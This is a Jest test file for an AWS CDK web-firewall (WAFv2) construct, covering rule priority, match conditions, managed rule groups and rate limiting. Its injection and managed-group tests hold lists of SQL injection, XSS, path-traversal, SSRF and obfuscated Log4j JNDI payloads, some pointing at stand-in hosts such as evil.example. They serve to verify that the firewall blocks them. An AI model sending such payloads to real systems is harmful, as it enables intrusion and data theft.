import { Duration } from 'aws-cdk-lib';
import { Match, type Template } from 'aws-cdk-lib/assertions';
import fc from 'fast-check';
import { FirewallCondition } from '../../../lib/constructs/edge/firewall-condition';
import { FirewallRule } from '../../../lib/constructs/edge/firewall-rule';
import { firstVerdict, type VerdictSetting } from '../../../lib/constructs/edge/first-verdict';
import { RequestPart } from '../../../lib/constructs/edge/request-part';
import type { WebAcl, WebRequest } from '../../../lib/constructs/edge/web-acl';
import { WebFirewall, type WebFirewallProps } from '../../../lib/constructs/edge/web-firewall';
import { templateOf } from '../../support/app';
import { verdictOf, visit } from '../../support/web-acl';

const aclOf = (rules: readonly FirewallRule[], props: Partial<WebFirewallProps> = {}): Template =>
  templateOf(
    (stack) => new WebFirewall(stack, 'Firewall', { description: 'Tests', scope: 'regional', rules, ...props }),
  );
const { block, allow, count, rate, managed } = FirewallRule;
const { fromAddresses, fromCountries, contains, startsWith, equals, matches, longerThan, all, any, not } =
  FirewallCondition;
const outcome = (template: Template, request: WebRequest, setting: VerdictSetting = {}) => {
  const { action, rule } = verdictOf(template, request, setting);
  return rule === undefined ? action : `${action} by ${rule}`;
};
const statementOf = (template: Template, statement: object) =>
  template.hasResourceProperties('AWS::WAFv2::WebACL', { Rules: [Match.objectLike({ Statement: statement })] });

describe('the order of rules', () => {
  const rules = [
    count('Seen', startsWith(RequestPart.path(), '/')),
    allow('Office', fromAddresses(['203.0.113.0/24'])),
    block('Admin', startsWith(RequestPart.path(), '/admin')),
  ];

  test('allow and block end the way of a request, count does not, and at the end the default holds [edge-web-acl-order]', () => {
    const template = aclOf(rules);
    expect(verdictOf(template, visit({ path: '/admin' }))).toEqual({
      action: 'block',
      rule: 'Admin',
      status: 403,
      counted: ['Seen'],
      unknown: [],
    });
    expect(verdictOf(template, visit({ path: '/admin', address: '203.0.113.9' }))).toMatchObject({
      action: 'allow',
      rule: 'Office',
      counted: ['Seen'],
    });
    expect(verdictOf(template, visit())).toEqual({ action: 'allow', counted: ['Seen'], unknown: [] });
    expect(verdictOf(aclOf(rules, { otherwise: 'block' }), visit())).toMatchObject({ action: 'block', status: 403 });
  });

  test('it goes by priority, wherever rules stand in the list [edge-web-acl-order]', () => {
    const address = fromAddresses(['203.0.113.0/24']);
    const from = visit({ path: '/admin', address: '203.0.113.9' });
    const admin = startsWith(RequestPart.path(), '/admin');
    const first = [block('Admin', admin, { priority: 20 }), allow('Office', address, { priority: 10 })];
    const last = [block('Admin', admin, { priority: 20 }), allow('Office', address, { priority: 30 })];
    expect([outcome(aclOf(first), from), outcome(aclOf(last), from)]).toEqual(['allow by Office', 'block by Admin']);
  });

  test('observed, the same rules only count [edge-web-acl-order]', () => {
    const template = aclOf([...rules, managed('AWSManagedRulesCommonRuleSet')], { mode: 'observe' });
    expect(verdictOf(template, visit({ path: '/admin/../x', query: 'q=<script>' }))).toEqual({
      action: 'allow',
      counted: ['Seen', 'Admin', 'AWSManagedRulesCommonRuleSet'],
      unknown: [],
    });
  });

  test('whatever the rules, no request passes a block that stands before every allow [edge-web-acl-order]', () => {
    const statement = (path: string) => ({
      ByteMatchStatement: {
        SearchString: path,
        PositionalConstraint: 'STARTS_WITH',
        FieldToMatch: { UriPath: {} },
        TextTransformations: [{ Priority: 0, Type: 'NONE' }],
      },
    });
    const path = fc.constantFrom('/', '/a', '/b', '/ab');
    const rule = fc.record({ path, action: fc.constantFrom('Allow', 'Block', 'Count') });
    fc.assert(
      fc.property(fc.array(rule, { maxLength: 8 }), path, (made, asked) => {
        const acl: WebAcl = {
          DefaultAction: { Allow: {} },
          Rules: made.map(({ path: prefix, action }, at) => ({
            Name: `R${at}`,
            Priority: made.length - at,
            Statement: statement(prefix),
            Action: { [action]: {} },
          })),
        };
        const deciding = [...made]
          .reverse()
          .find(({ path: prefix, action }) => action !== 'Count' && asked.startsWith(prefix));
        expect(firstVerdict(acl, { address: '192.0.2.1', path: asked }).action).toBe(
          deciding?.action === 'Block' ? 'block' : 'allow',
        );
      }),
    );
  });
});

describe('conditions', () => {
  test('addresses of both families, from sets of their own [edge-waf-matches]', () => {
    const template = aclOf([block('Bad', fromAddresses(['192.0.2.0/24', '198.51.100.7/32', '2001:db8::/32']))]);
    template.hasResourceProperties('AWS::WAFv2::IPSet', {
      IPAddressVersion: 'IPV4',
      Scope: 'REGIONAL',
      Addresses: ['192.0.2.0/24', '198.51.100.7/32'],
    });
    template.hasResourceProperties('AWS::WAFv2::IPSet', { IPAddressVersion: 'IPV6', Addresses: ['2001:db8::/32'] });
    const from = (address: string) => outcome(template, visit({ address }));
    expect(['192.0.2.200', '198.51.100.7', '2001:db8:1::1'].map(from)).toEqual(Array(3).fill('block by Bad'));
    expect(['192.0.3.1', '198.51.100.8', '2001:db9::1'].map(from)).toEqual(Array(3).fill('allow'));
  });

  test('countries, and all but some [edge-waf-matches]', () => {
    const template = aclOf([block('Elsewhere', not(fromCountries('AT', 'DE')))]);
    statementOf(template, { NotStatement: { Statement: { GeoMatchStatement: { CountryCodes: ['AT', 'DE'] } } } });
    expect(outcome(template, visit({ country: 'DE' }))).toBe('allow');
    expect(outcome(template, visit({ country: 'FR' }))).toBe('block by Elsewhere');
    expect(outcome(template, { address: '192.0.2.1', path: '/' })).toBe('block by Elsewhere');
  });

  test.each<[string, FirewallCondition, WebRequest, WebRequest]>([
    [
      'a header, whatever its case',
      contains(RequestPart.header('X-Tool'), 'BadBot'),
      visit({ headers: { 'x-TOOL': 'badbot/1.0' } }),
      visit(),
    ],
    ['a path', startsWith(RequestPart.path(), '/admin'), visit({ path: '/Admin/users' }), visit({ path: '/x/admin' })],
    ['a method', equals(RequestPart.method(), 'trace'), visit({ method: 'TRACE' }), visit({ method: 'POST' })],
    [
      'a query string',
      matches(RequestPart.queryString(), /(^|&)debug=(1|true)(&|$)/),
      visit({ query: 'a=1&DEBUG=true' }),
      visit({ query: 'debug=0' }),
    ],
    [
      'an argument of it',
      equals(RequestPart.queryArguments(), 'root'),
      visit({ query: 'user=Root&x=1' }),
      visit({ query: 'user=roots' }),
    ],
    [
      'a cookie',
      contains(RequestPart.cookies(), 'evil'),
      visit({ headers: { cookie: 'a=1; b=evil' } }),
      visit({ headers: { cookie: 'evil=1' } }),
    ],
    [
      'a size',
      longerThan(RequestPart.queryString(), 10),
      visit({ query: 'x'.repeat(11) }),
      visit({ query: 'x'.repeat(10) }),
    ],
    [
      'every one of several',
      all(fromCountries('AT'), startsWith(RequestPart.path(), '/private')),
      visit({ path: '/private/a' }),
      visit({ path: '/private/a', country: 'DE' }),
    ],
    [
      'any one of several',
      any(fromAddresses(['192.0.2.1/32']), fromAddresses(['192.0.2.2/32'])),
      visit({ address: '192.0.2.2' }),
      visit({ address: '192.0.2.3' }),
    ],
  ])('%s decides [edge-waf-matches]', (_, condition, hit, miss) => {
    const template = aclOf([block('Rule', condition)]);
    expect([outcome(template, hit), outcome(template, miss)]).toEqual(['block by Rule', 'allow']);
  });

  test('two conditions are one statement [edge-waf-matches]', () => {
    statementOf(aclOf([block('Rule', all(fromCountries('AT'), startsWith(RequestPart.path(), '/private')))]), {
      AndStatement: {
        Statements: [
          { GeoMatchStatement: { CountryCodes: ['AT'] } },
          {
            ByteMatchStatement: {
              SearchString: '/private',
              PositionalConstraint: 'STARTS_WITH',
              FieldToMatch: { UriPath: {} },
              TextTransformations: [{ Priority: 0, Type: 'LOWERCASE' }],
            },
          },
        ],
      },
    });
  });

  test('a body that is longer than is looked at is judged as the rule says, and never by silence [edge-waf-matches]', () => {
    const padded = visit({ method: 'POST', body: `${' '.repeat(16_384)}evil` });
    const early = visit({ method: 'POST', body: `evil${' '.repeat(16_384)}` });
    const template = (body: RequestPart) => aclOf([block('Evil', contains(body, 'evil'))]);
    statementOf(template(RequestPart.body()), {
      ByteMatchStatement: Match.objectLike({ FieldToMatch: { Body: { OversizeHandling: 'MATCH' } } }),
    });
    const outcomes = (body: RequestPart) => [early, padded].map((request) => outcome(template(body), request));
    expect(outcomes(RequestPart.body())).toEqual(['block by Evil', 'block by Evil']);
    expect(outcomes(RequestPart.body('CONTINUE'))).toEqual(['block by Evil', 'allow']);
    expect(outcomes(RequestPart.body('NO_MATCH'))).toEqual(['allow', 'allow']);
    // Before a load balancer only half as much is seen.
    const half = visit({ body: `${' '.repeat(8192)}evil` });
    const continued = template(RequestPart.body('CONTINUE'));
    expect([outcome(continued, half), outcome(continued, half, { bodyLimit: 8192 })]).toEqual([
      'block by Evil',
      'allow',
    ]);
  });

  test('a blocked client gets the status that the rule names', () => {
    const template = aclOf([block('Gone', startsWith(RequestPart.path(), '/old'), { status: 410 })]);
    expect(verdictOf(template, visit({ path: '/old' }))).toMatchObject({ action: 'block', status: 410 });
  });

  test('a blocked client gets the answer that the rule, or the default, has in place of the page of the service', () => {
    const custom = { ResponseCode: 302, ResponseHeaders: [{ Name: 'Location', Value: '/closed' }] };
    const shut: WebAcl = { DefaultAction: { Block: { CustomResponse: custom } } };
    expect(firstVerdict(shut, visit())).toMatchObject({ action: 'block', status: 302, custom });
    const Statement = {
      ByteMatchStatement: {
        FieldToMatch: { UriPath: {} },
        PositionalConstraint: 'STARTS_WITH',
        SearchString: '/old',
        TextTransformations: [],
      },
    };
    const moved = { Name: 'Moved', Priority: 0, Statement, Action: { Block: { CustomResponse: custom } } };
    const acl: WebAcl = { DefaultAction: { Block: {} }, Rules: [moved] };
    expect(firstVerdict(acl, visit({ path: '/old' }))).toMatchObject({ rule: 'Moved', status: 302, custom });
    expect(firstVerdict(acl, visit())).toEqual({ action: 'block', status: 403, counted: [], unknown: [] });
  });
});

const injections: readonly string[] = [
  "1' or '1'='1",
  "admin'--",
  "' OR 1=1 --",
  "') or ('a'='a",
  '1 or 1=1',
  '1 union select name, password from users',
  'x%27%20UNION%20ALL%20SELECT%20null,null--',
  '1/**/union/**/select/**/1',
  '1; drop table users',
  "1'; exec xp_cmdshell('dir')",
  "1' and sleep(5)#",
  "1; waitfor delay '0:0:5'",
  'select table_name from information_schema.tables',
  '1&#39; or &#39;1&#39;=&#39;1',
];
const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script src=//evil.example&#62;',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  'java\u0000script:alert(1)',
  '<iframe src="data:text/html,x">',
  '<ScRiPt >alert(1)</ScRiPt>',
];
const harmless: readonly string[] = [
  'a walk in the park',
  "O'Brien and sons",
  "rock 'n' roll or jazz",
  'Joe (the cook) and Ann is here',
  'select the best from our list',
  'the union selected a new chair',
  'drop us a line; we update the table daily',
  'size < 10 and price > 5',
  '5 or 6 = not sure',
  'a <b>bold</b> word',
  'the script on=off was late',
  'john@example.com',
  'https://example.com/?a=1&b=2',
  'C++ -- the language # 1',
];

describe('injection', () => {
  const own = aclOf([
    block(
      'Sql',
      any(...[RequestPart.queryArguments(), RequestPart.body()].map((part) => FirewallCondition.sqlInjection(part))),
    ),
    block(
      'Script',
      any(...[RequestPart.queryArguments(), RequestPart.body()].map((part) => FirewallCondition.scripting(part))),
    ),
  ]);
  const kept = aclOf([managed('AWSManagedRulesSQLiRuleSet'), managed('AWSManagedRulesCommonRuleSet')]);
  const places = (text: string): WebRequest[] => [
    visit({ query: `q=${text.includes('%') ? text : encodeURIComponent(text)}` }),
    visit({ method: 'POST', body: text }),
  ];

  test('own rules decode a text twice over before they look at it [edge-waf-injection]', () => {
    const looking = {
      TextTransformations: [
        { Priority: 0, Type: 'URL_DECODE' },
        { Priority: 1, Type: 'HTML_ENTITY_DECODE' },
      ],
    };
    own.hasResourceProperties('AWS::WAFv2::WebACL', {
      Rules: [
        Match.objectLike({
          Action: { Block: {} },
          Statement: {
            OrStatement: {
              Statements: [
                {
                  SqliMatchStatement: { ...looking, FieldToMatch: { AllQueryArguments: {} }, SensitivityLevel: 'LOW' },
                },
                {
                  SqliMatchStatement: {
                    ...looking,
                    FieldToMatch: { Body: { OversizeHandling: 'MATCH' } },
                    SensitivityLevel: 'LOW',
                  },
                },
              ],
            },
          },
        }),
        Match.objectLike({
          Statement: {
            OrStatement: { Statements: Match.arrayWith([{ XssMatchStatement: Match.objectLike(looking) }]) },
          },
        }),
      ],
    });
  });

  test('groups that AWS keeps stand in the list by their names, and act by themselves [edge-waf-injection]', () => {
    kept.hasResourceProperties('AWS::WAFv2::WebACL', {
      Rules: ['AWSManagedRulesSQLiRuleSet', 'AWSManagedRulesCommonRuleSet'].map((Name) =>
        Match.objectLike({
          Action: Match.absent(),
          OverrideAction: { None: {} },
          Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name } },
        }),
      ),
    });
  });

  test.each(injections)('SQL is turned away: %s [edge-waf-injection]', (text) => {
    for (const request of places(text)) {
      expect(outcome(own, request)).toBe('block by Sql');
      expect(outcome(kept, request)).toBe('block by AWSManagedRulesSQLiRuleSet');
    }
  });

  test.each(scripts)('a script is turned away: %s [edge-waf-injection]', (text) => {
    for (const request of places(text)) {
      expect(outcome(own, request)).toBe('block by Script');
      expect(outcome(kept, request)).toBe('block by AWSManagedRulesCommonRuleSet');
    }
  });

  test.each(harmless)('what people write passes: %s', (text) => {
    for (const request of places(text))
      expect([outcome(own, request), outcome(kept, request)]).toEqual(['allow', 'allow']);
  });
});

describe('groups that AWS keeps', () => {
  const template = aclOf([
    managed('AWSManagedRulesAmazonIpReputationList'),
    managed('AWSManagedRulesCommonRuleSet', { countOnly: ['SizeRestrictions_BODY'] }),
    managed('AWSManagedRulesKnownBadInputsRuleSet', { only: not(startsWith(RequestPart.path(), '/raw')) }),
  ]);

  test.each<[string, WebRequest, string | undefined]>([
    ['a browser', visit(), undefined],
    ['nobody in particular', visit({ headers: { 'user-agent': '' } }), 'NoUserAgent_HEADER'],
    ['a long query', visit({ query: 'x'.repeat(2049) }), 'SizeRestrictions_QUERYSTRING'],
    ['a long path', visit({ path: `/${'x'.repeat(1024)}` }), 'SizeRestrictions_URIPATH'],
    ['many cookies', visit({ headers: { cookie: 'x'.repeat(10_241) } }), 'SizeRestrictions_Cookie_HEADER'],
    ['a climb through folders', visit({ path: '/..%2f..%2fetc/passwd' }), 'GenericLFI_URIPATH'],
    ['one in an argument', visit({ query: 'file=../../etc/passwd' }), 'GenericLFI_QUERYARGUMENTS'],
    ['one in a body', visit({ body: 'file=../../etc/passwd' }), 'GenericLFI_BODY'],
    ['a file from elsewhere', visit({ query: 'page=http://192.0.2.1/x.txt' }), 'GenericRFI_QUERYARGUMENTS'],
    ['settings', visit({ path: '/.env' }), 'RestrictedExtensions_URIPATH'],
    ['the machine’s own data', visit({ query: 'u=169.254.169.254/latest' }), 'EC2MetaDataSSRF_QUERYARGUMENTS'],
    ['that in a body', visit({ body: 'u=169.254.169.254/latest' }), 'EC2MetaDataSSRF_BODY'],
    ['a script in a path', visit({ path: '/%3Cscript%3E' }), 'CrossSiteScripting_URIPATH'],
    ['a script in a cookie', visit({ headers: { cookie: 'a=<script>' } }), 'CrossSiteScripting_COOKIE'],
    ['a lookup of Log4j', visit({ headers: { 'x-api': '${jndi:ldap://evil}' } }), 'Log4JRCE_HEADER'],
    ['one in a query', visit({ query: 'q=%24%7Bjndi:ldap://evil%7D' }), 'Log4JRCE_QUERYSTRING'],
    ['one in a body that hides it', visit({ body: '${${lower:j}ndi:ldap://evil}' }), 'Log4JRCE_BODY'],
    ['one in a path', visit({ path: '/${jndi:ldap}' }), 'Log4JRCE_URIPATH'],
    ['a host that is none', visit({ headers: { host: 'localhost:8080' } }), 'Host_localhost_HEADER'],
    ['a folder of files', visit({ method: 'PROPFIND' }), 'PROPFIND_METHOD'],
    ['the history of the code', visit({ path: '/.git/config' }), 'ExploitablePaths_URIPATH'],
  ])('%s', (_, request, within) => {
    expect(verdictOf(template, request).within).toBe(within);
  });

  test('a rule of a group can be made to count only, and a group to look at some requests', () => {
    expect(verdictOf(template, visit({ body: 'x'.repeat(8193) }))).toEqual({
      action: 'allow',
      counted: ['AWSManagedRulesCommonRuleSet/SizeRestrictions_BODY'],
      unknown: ['AWSManagedRulesAmazonIpReputationList'],
    });
    expect(outcome(template, visit({ path: '/raw/.git/config' }))).toBe('allow');
  });

  test('what only AWS knows is passed over, and said so', () => {
    expect(verdictOf(template, visit()).unknown).toEqual(['AWSManagedRulesAmazonIpReputationList']);
  });
});

describe('how often an address asks', () => {
  const earlier = (times: number, secondsAgo: number, request: Partial<WebRequest> = {}) =>
    Array.from({ length: times }, () => ({ ...visit(request), secondsAgo }));

  test('counts by address over five minutes unless another window is given [edge-waf-rate]', () => {
    statementOf(aclOf([rate('TooMany', { limit: 1000 })]), {
      RateBasedStatement: { Limit: 1000, EvaluationWindowSec: 300, AggregateKeyType: 'IP' },
    });
    for (const minutes of [1, 2, 5, 10])
      statementOf(aclOf([rate('TooMany', { limit: 10, window: Duration.minutes(minutes) })]), {
        RateBasedStatement: Match.objectLike({ EvaluationWindowSec: minutes * 60 }),
      });
  });

  test('above the limit a client is turned away, until enough of its requests are old [edge-waf-rate]', () => {
    const template = aclOf([rate('TooMany', { limit: 10, window: Duration.minutes(1) })]);
    const after = (...asked: ReturnType<typeof earlier>[]) => outcome(template, visit(), { earlier: asked.flat() });
    expect(after(earlier(9, 30))).toBe('allow');
    expect(after(earlier(10, 30))).toBe('block by TooMany');
    expect(after(earlier(10, 60))).toBe('allow');
    expect(after(earlier(9, 59), earlier(5, 61))).toBe('allow');
    expect(after(earlier(100, 1, { address: '192.0.2.1' }))).toBe('allow');
  });

  test('only requests that it is about, and that reach it, count [edge-waf-rate]', () => {
    const template = aclOf([
      allow('Office', fromAddresses(['203.0.113.0/24'])),
      block('Admin', startsWith(RequestPart.path(), '/admin')),
      rate('TooManySignIns', { limit: 10, only: equals(RequestPart.path(), '/sign-in'), status: 429 }),
    ]);
    const signIn = visit({ path: '/sign-in' });
    expect(verdictOf(template, signIn, { earlier: earlier(10, 5, { path: '/sign-in' }) })).toMatchObject({
      rule: 'TooManySignIns',
      status: 429,
    });
    expect(outcome(template, signIn, { earlier: earlier(100, 5, { path: '/' }) })).toBe('allow');
    expect(outcome(template, visit(), { earlier: earlier(100, 5, { path: '/sign-in' }) })).toBe('allow');
    const everything = aclOf([
      block('Admin', startsWith(RequestPart.path(), '/admin')),
      rate('TooMany', { limit: 10 }),
    ]);
    expect(outcome(everything, visit(), { earlier: earlier(100, 5, { path: '/admin' }) })).toBe('allow');
  });
});

describe('what cannot be judged here', () => {
  const judging = (rule: object, setting: VerdictSetting = {}) => {
    const acl = { DefaultAction: { Allow: {} }, Rules: [{ Name: 'R', Priority: 0, Action: { Block: {} }, ...rule }] };
    return () => firstVerdict(acl as unknown as WebAcl, visit(), setting);
  };
  const inspecting = (more: object) => ({
    FieldToMatch: { UriPath: {} },
    TextTransformations: [{ Priority: 0, Type: 'NONE' }],
    ...more,
  });

  test.each<[object, string]>([
    [{ Statement: { LabelMatchStatement: {} } }, 'a statement with LabelMatchStatement cannot be judged here'],
    [
      { Statement: { SqliMatchStatement: inspecting({ FieldToMatch: { JsonBody: {} } }) } },
      'the part JsonBody of a request cannot be judged here',
    ],
    [
      { Statement: { SqliMatchStatement: inspecting({ TextTransformations: [{ Priority: 0, Type: 'MD5' }] }) } },
      'the transformation MD5 is not known here; known are NONE, LOWERCASE, URL_DECODE, HTML_ENTITY_DECODE, COMPRESS_WHITE_SPACE, REPLACE_COMMENTS',
    ],
    [
      { Statement: { ByteMatchStatement: inspecting({ SearchString: 'x', PositionalConstraint: 'CONTAINS_WORD' }) } },
      'the place CONTAINS_WORD of a text cannot be judged here',
    ],
    [
      { Statement: { SizeConstraintStatement: inspecting({ ComparisonOperator: 'LIKE', Size: 1 }) } },
      'the comparison LIKE cannot be judged here',
    ],
    [
      { Statement: { RateBasedStatement: { Limit: 10, AggregateKeyType: 'FORWARDED_IP' } } },
      'a count by FORWARDED_IP cannot be judged here, only by IP',
    ],
    [
      { Statement: { IPSetReferenceStatement: { Arn: 'arn:x' } } },
      'the address set arn:x is not given; give its ranges in addressSets',
    ],
    [
      {
        Statement: { ManagedRuleGroupStatement: { VendorName: 'Other', Name: 'Rules' } },
        OverrideAction: { None: {} },
      },
      'the managed group Other Rules of the rule R is not known here',
    ],
    [
      { Statement: { GeoMatchStatement: { CountryCodes: ['AT'] } }, Action: { Captcha: {} } },
      'the action Captcha of the rule R cannot be judged here',
    ],
  ])('is said: %#', (rule, message) => {
    expect(judging(rule)).toThrow(message);
  });
});
